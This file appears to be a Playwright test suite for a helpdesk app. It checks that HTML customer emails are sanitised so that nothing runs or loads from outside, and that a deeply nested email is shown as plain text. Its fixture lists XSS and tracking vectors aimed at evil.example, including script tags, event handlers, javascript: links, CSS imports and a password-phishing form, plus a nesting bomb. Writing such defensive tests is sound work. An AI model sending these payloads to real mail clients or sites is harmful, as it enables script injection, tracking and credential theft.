import { expect } from "@playwright/test";
import { QUESTION, receiveTicket } from "./support/customer-mail.ts";
import { t, test } from "./support/desk-test.ts";

const PIXEL = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const PICTURE = "https://pictures.example/parcel.png";

/** Every way in which a mail tries to run, to fetch, to lead away or to be answered. */
const HOSTILE_HTML = `<html><head>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/sheet.css">
<link rel="prefetch" href="https://evil.example/prefetch">
<style>@import url(https://evil.example/import.css); body { background: url(https://evil.example/background.png) }
@font-face { font-family: x; src: url(https://evil.example/font.woff) } p { font-family: x }</style>
</head><body onload="parent.hacked = 'onload'" background="https://evil.example/body.png">
<p>My parcel is <b>late</b>.</p>
<script>parent.hacked = "script"</script>
<script src="https://evil.example/script.js"></script>
<img src="${PICTURE}" alt="the parcel" width="20" height="20">
<img src="nowhere" onerror="parent.hacked = 'onerror'">
<svg onload="parent.hacked = 'svg'"><script>parent.hacked = "svg script"</script></svg>
<form action="https://evil.example/steal"><input name="password" value="1234"><button>Log in</button></form>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<video src="https://evil.example/film.mp4" poster="https://evil.example/poster.png" autoplay></video>
<a href="javascript:parent.hacked='link'" id="trap">a link</a>
</body></html>`;

test("an HTML mail runs nothing and fetches nothing; its pictures appear once they are asked for", async ({
  page,
  desk,
  watch,
}) => {
  await page.route(
    (url) => !url.href.startsWith(desk.origin),
    (route) => route.fulfill({ contentType: "image/png", body: PIXEL }),
  );
  const ticketId = await receiveTicket(desk, { ...QUESTION, html: HOSTILE_HTML });
  await page.goto(`${desk.url}#/ticket/${ticketId}`);
  const frame = page.frameLocator(`iframe[title="${t("ticket.html.frame", { subject: QUESTION.subject })}"]`);
  await expect(frame.getByText("My parcel is late.")).toBeVisible();
  await expect(
    frame.locator("script, form, input, button, iframe, object, video, link, base, meta[http-equiv=refresh]"),
  ).toHaveCount(0);
  await frame.getByText("a link").click();

  const blocked = page.getByText(t("ticket.html.blocked", { count: 1 }));
  const askable = page.getByRole("button", { name: t("ticket.html.showImages") });
  await expect(askable).toBeVisible();
  expect({
    outside: watch.outside,
    hacked: await page.evaluate("window.hacked ?? null"),
    pages: page.context().pages().length,
  }).toEqual({
    outside: [],
    hacked: null,
    pages: 1,
  });

  await askable.click();
  await expect(blocked).toBeHidden();
  await expect.poll(() => watch.outside).toContain(PICTURE);
  expect(watch.outside.filter((address) => address !== PICTURE && !address.endsWith(".png"))).toEqual([]);
  expect(await page.evaluate("window.hacked ?? null")).toBeNull();
  watch.outside.length = 0;

  // What the browser refused to do while the mail was cleaned is no fault of the page.
  const faults = watch.problems.filter((problem) => !/Content Security Policy|policy violated/u.test(problem));
  watch.problems.splice(0, watch.problems.length, ...faults);
});

test("a mail that would stop the window is shown as its text, and formatted when that is asked for", async ({
  page,
  desk,
}) => {
  const words = `<p>The crate arrived open.</p>${"<b><i><font color=red>".repeat(20_000)}Please call me.`;
  const ticketId = await receiveTicket(desk, { ...QUESTION, html: words });
  await page.goto(`${desk.url}#/ticket/${ticketId}`);
  const ask = page.getByRole("button", { name: t("ticket.html.showHeavy") });
  await expect(ask).toBeVisible();
  await expect(page.getByText(t("ticket.html.heavy"))).toBeVisible();
  await ask.click();
  const frame = page.frameLocator(`iframe[title="${t("ticket.html.frame", { subject: QUESTION.subject })}"]`);
  await expect(frame.getByText("The crate arrived open.")).toBeVisible();
  await expect(frame.getByText("Please call me.")).toBeVisible();
  await expect(ask).toBeHidden();
});
